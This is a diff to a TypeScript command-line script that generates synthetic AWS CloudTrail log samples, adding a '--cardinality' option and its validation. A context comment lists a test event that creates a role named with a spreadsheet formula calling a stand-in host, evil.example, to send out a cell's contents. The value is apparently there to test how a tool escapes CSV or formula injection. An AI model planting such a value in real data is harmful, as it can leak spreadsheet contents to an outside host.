@@ -12,19 +12,21 @@
  * f0a1a000-3d48-4c59-9e50-000000000002 (CreateRole, 2026-11-24T10:15:03Z) creates a role named
  * =HYPERLINK("evil.example?q="&A1,"x"). `--events N` sets the ordinary events (default 3600; fixed
  * scenarios add ~400); `--events 1000000` makes a benchmark folder of ~10,000 files of at most 100
- * events, streamed window by window in bounded memory. Rewrites only DIR/AWSLogs.
+ * events, streamed window by window in bounded memory. `--cardinality high` replaces the ordinary
+ * events with samples/highCardinality.ts's (near-unique ids, keys, IPs and object ARNs; 30k principals;
+ * 368 event names; 50 user agents). Rewrites only DIR/AWSLogs.
  */
 import { parseArgs } from 'node:util';
 import { DEFAULT_EVENTS, DEFAULT_SEED, generateSamples } from './pipeline.js';
 
-const USAGE = 'usage: node dist/samples/generate.js --out DIR [--events N] [--seed S]';
+const USAGE = 'usage: node dist/samples/generate.js --out DIR [--events N] [--seed S] [--cardinality default|high]';
 
 function main(argv: string[]): number {
   let values;
   try {
     ({ values } = parseArgs({
       args: argv,
-      options: { out: { type: 'string' }, events: { type: 'string' }, seed: { type: 'string' }, help: { type: 'boolean' } },
+      options: { out: { type: 'string' }, events: { type: 'string' }, seed: { type: 'string' }, cardinality: { type: 'string' }, help: { type: 'boolean' } },
       strict: true,
       allowPositionals: false,
     }));
@@ -45,8 +47,13 @@ function main(argv: string[]): number {
     process.stderr.write(`--events must be a whole number, got '${values.events}'\n`);
     return 2;
   }
+  const cardinality = values.cardinality ?? 'default';
+  if (cardinality !== 'default' && cardinality !== 'high') {
+    process.stderr.write(`--cardinality must be default or high, got '${cardinality}'\n`);
+    return 2;
+  }
   const started = performance.now();
-  const s = generateSamples({ out: values.out, events, seed: values.seed ?? DEFAULT_SEED });
+  const s = generateSamples({ out: values.out, events, seed: values.seed ?? DEFAULT_SEED, cardinality });
   const seconds = ((performance.now() - started) / 1000).toFixed(1);
   process.stdout.write(
     `wrote ${s.trailFiles} trail files (${s.records} records, ${s.unique} unique, ${s.duplicates} duplicates), `
